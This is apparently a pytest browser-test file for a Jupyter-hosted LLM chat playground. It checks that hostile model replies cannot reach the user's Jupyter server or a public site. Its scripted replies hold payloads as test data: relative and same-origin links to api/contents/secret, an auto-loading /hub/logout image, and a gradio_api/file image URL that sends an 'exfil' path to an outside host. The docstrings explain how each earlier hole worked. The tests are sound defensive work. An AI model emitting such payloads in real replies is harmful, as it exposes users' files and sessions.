"""In the playground (headless chromium), a reply's links lead only to the web, and the model still reads its
reply as it wrote it.

Behind jupyter-server-proxy the playground's page lives under the user's Jupyter server, so a relative
link in a reply (``[x](../../api/contents/secret)``) was one click from a file of the user's. What the
page shows changes; what the next turn sends back as context does not.
"""

from __future__ import annotations

import pytest

pytest.importorskip("gradio")

import xllm_jupyter
from tests.browser import chromium, require_browser
from tests.helpers import public_site_recorder
from tests.test_safe_markdown import AUTOLOAD, RELATIVE_LINKS
from xllm_jupyter.playground import app as app_module
from xllm_jupyter.playground import guard as guard_module

pytestmark = [pytest.mark.timeout(600)]

#: Markdown links of every kind (tests/test_safe_markdown.py) and the raw HTML Gradio renders
HOSTILE = RELATIVE_LINKS + '\n<a href="../../api/contents/html">h</a> <a href="https://ok.example/html">w</a>\n'
#: a user's own message with a relative link: shown the same way
QUESTION = "And [u](../../api/contents/user)?"
#: the links a page may keep, as the browser resolved them
WEB = ["https://ok.example/html", "https://ok.example/ok", "mailto:p@ok.example"]


@pytest.fixture
def scripted(tiny_client, monkeypatch):
    """A playground whose replies are HOSTILE, then "ok"; the messages each turn sent are kept."""
    sent: list[list[dict[str, str]]] = []

    async def stream_reply(endpoint, messages, model, params, finish=None):
        sent.append(messages)
        yield HOSTILE if len(sent) == 1 else "ok"

    monkeypatch.setattr(app_module, "stream_reply", stream_reply)
    pg = xllm_jupyter.playground(client=tiny_client)
    try:
        yield pg, sent
    finally:
        pg.close()


def ask(page, text: str, replies: int) -> None:
    """Send ``text`` and wait until the transcript holds ``replies`` replies, the last one shown (the scripted reply
    comes in one update). The turn's first update adds an empty answer, so counting answers alone passed before the
    reply was there (seen under load: "Gradio did draw the images" found none)."""
    box = page.locator("#xllm-input textarea")
    box.fill(text)
    box.press("Enter")
    page.wait_for_function(
        """(replies) => { const bots = document.querySelectorAll('#xllm-chatbot [data-testid=bot]');
                          const last = bots[bots.length - 1];
                          return bots.length >= replies
                              && (last.innerText.trim() !== '' || last.querySelector('img') !== null)
                              && document.querySelectorAll('.generating').length === 0; }""",
        arg=replies,
        timeout=60_000,
    )


def opened(page, pg):
    """``page`` on the playground ``pg``, once its input box is there."""
    page.goto(pg.local_url, timeout=60_000)
    page.locator("#xllm-input textarea").wait_for(timeout=60_000)
    return page


def replying(monkeypatch, reply: str) -> None:
    """Every playground turn answers ``reply`` (as a model's stream would), without asking the model."""

    async def stream_reply(endpoint, messages, model, params, finish=None):
        yield reply

    monkeypatch.setattr(app_module, "stream_reply", stream_reply)


def test_no_relative_link_is_clickable_in_the_playground_and_the_model_reads_its_reply_unchanged(scripted):
    require_browser()
    pg, sent = scripted
    with chromium() as context:
        page = opened(context.new_page(), pg)
        ask(page, "Show me links", 1)
        ask(page, QUESTION, 2)
        chat = page.locator("#xllm-chatbot")
        # the href as the browser resolved it: a relative one leads to the Jupyter server's API
        hrefs = chat.locator("[data-testid=bot] a[href], [data-testid=user] a[href]").evaluate_all(
            "els => els.map(e => e.href)")
        assert sorted(set(hrefs)) == WEB, hrefs
        text = chat.inner_text()
        for target in ("api/contents/secret", "files/secret.txt", "api/contents/html", "api/contents/user"):
            assert target in text, target  # shown, as text
        # a click on what was a relative link goes nowhere
        before = page.url
        chat.get_by_text("api/contents/secret").first.click()
        page.wait_for_timeout(300)
        assert page.url == before and len(context.pages) == 1
    # the second turn sent the model's first reply and the user's first question as they were written
    assert len(sent) == 2
    history = sent[1]
    assert [m["role"] for m in history] == ["user", "assistant", "user"]
    assert history[1]["content"] == HOSTILE.strip()
    assert history[2]["content"] == QUESTION


def test_an_absolute_link_to_the_playgrounds_own_server_is_no_link_either(tiny_client, monkeypatch):
    """The guard let every http(s) link through: one spelling out the page's own origin (a hub's URLs are easy to
    guess: https://hub.example/user/NAME/api/contents/...) led to the user's Jupyter as a relative one did."""
    require_browser()
    from urllib.parse import urlsplit

    pg = xllm_jupyter.playground(client=tiny_client)
    origin = "{0.scheme}://{0.netloc}".format(urlsplit(pg.local_url))
    own = f"{origin}/api/contents/secret"
    replying(monkeypatch, f"[own]({own}) and [web](https://ok.example/ok) <a href=\"{origin}/files/x\">raw</a>")
    try:
        with chromium() as context:
            page = opened(context.new_page(), pg)
            ask(page, "Show me links", 1)
            chat = page.locator("#xllm-chatbot")
            hrefs = chat.locator("[data-testid=bot] a[href]").evaluate_all("els => els.map(e => e.href)")
            assert hrefs == ["https://ok.example/ok"], hrefs
            assert own in chat.inner_text()  # shown, as text
    finally:
        pg.close()


def test_nothing_in_a_reply_makes_the_browser_fetch_from_the_pages_own_server(tiny_client, monkeypatch):
    """The CSP allowed images from ``'self'``: the whole origin, which behind the proxy is the user's Jupyter server
    (or hub), so ``![](/hub/logout)`` sent a same-origin GET with the user's cookies the moment it was shown."""
    require_browser()
    from urllib.parse import urlsplit

    pg = xllm_jupyter.playground(client=tiny_client)
    origin = "{0.scheme}://{0.netloc}".format(urlsplit(pg.local_url))
    replying(monkeypatch, AUTOLOAD.format(origin=origin))
    hits: list[str] = []  # what reached the server outside the app (the Guard answers those with a 404)
    refuse = guard_module.refuse

    async def recording_refuse(scope, receive, send, status, body):
        hits.append(scope["path"] + "?" + scope.get("query_string", b"").decode())
        await refuse(scope, receive, send, status, body)

    monkeypatch.setattr(guard_module, "refuse", recording_refuse)
    try:
        with chromium() as context:
            page = context.new_page()
            blocked: list[str] = []  # the CSP's reports in the console
            page.on("console", lambda m: blocked.append(m.text) if "Content Security Policy" in m.text else None)
            ask(opened(page, pg), "Show me images", 1)
            chat = page.locator("#xllm-chatbot")
            assert chat.locator("[data-testid=bot] img").count() >= 1  # Gradio did draw the images
            page.wait_for_timeout(1000)  # time for any fetch a shown element starts
            assert hits == [], "\n".join(hits)
            # the CSP stopped them (the browser says so), and nothing of the app's own
            assert any("/hub/logout?md" in line for line in blocked), blocked
            assert not [line for line in blocked if pg.local_url in line], blocked
    finally:
        pg.close()


def test_a_replys_image_on_the_apps_own_path_makes_the_app_fetch_nothing_elsewhere(tiny_client, monkeypatch):
    """``![](gradio_api/file=https://host/DATA)`` is a relative URL on the path the CSP allows, and Gradio fetched
    ``https://host/DATA`` itself to serve it: the reply told any public site ``DATA`` as soon as it was shown.
    Gradio allows public addresses only; the recorder stands in for one."""
    require_browser()
    with public_site_recorder(monkeypatch) as (far, hits):
        replying(monkeypatch, f"Here: ![chart](gradio_api/file={far}/exfil/the-users-secret.png)")
        pg = xllm_jupyter.playground(client=tiny_client)
        try:
            with chromium() as context:
                page = opened(context.new_page(), pg)
                ask(page, "Show me the chart", 1)
                assert page.locator("#xllm-chatbot [data-testid=bot] img").count() >= 1  # Gradio drew the image
                page.wait_for_timeout(1000)  # time for any fetch the shown image starts
        finally:
            pg.close()
    assert hits == []
